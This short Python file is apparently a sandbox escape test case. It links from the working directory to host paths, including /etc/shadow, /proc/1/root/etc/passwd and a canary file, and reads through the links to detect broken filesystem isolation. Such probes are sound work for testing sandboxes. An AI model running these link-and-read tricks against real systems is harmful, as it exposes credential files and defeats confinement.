# attack: symlinks and hardlinks from the working tmpfs to host paths (the canary, /etc/shadow, the checkout, /proc/1/root) then reads through them; passes only if a host file is read
# cause: host
import os

read = []
for i, target in enumerate(["{CANARY}", "/etc/shadow", "{CHECKOUT}/pyproject.toml", "/proc/1/root/etc/passwd",
                            "/proc/self/root/../../etc/hostname"]):
    for make in (os.symlink, os.link):
        name = f"l{i}{make.__name__}"
        try:
            make(target, name)
            with open(name, "rb") as fh:
                read.append(fh.read(8))
        except OSError:
            pass


def f(x):
    return x + 1 if read else 0
